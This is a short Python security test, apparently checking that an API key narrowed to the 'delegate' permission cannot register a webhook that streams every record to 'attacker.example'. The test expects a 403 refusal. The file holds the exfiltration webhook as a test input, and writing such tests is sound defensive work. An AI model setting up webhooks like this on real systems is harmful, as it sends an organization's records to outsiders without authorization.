"""A key narrowed to `delegate` makes a webhook, which carries every record out of the organization."""

import os

from installation import Installation, Server, binary, report

with Installation(binary(), serve=False) as it:
    key_file = os.path.join(it.directory.name, "webhooks.key")
    it.run("webhook", "key", key_file)
    it.server = Server(it.binary, it.data, options=["--webhooks", key_file])
    if not it.server.wait():
        raise RuntimeError(it.server.errors())
    narrow = it.made_by(f"/v1/users/{it.user}/keys", {"narrow": {"permissions": ["delegate"]}})["secret"]
    hook = {"url": "https://attacker.example/hook", "kinds": ["record"]}
    made = it.call("POST", "/v1/webhooks", hook, narrow)
    report("narrow_webhook", made.status == 403, str(made))
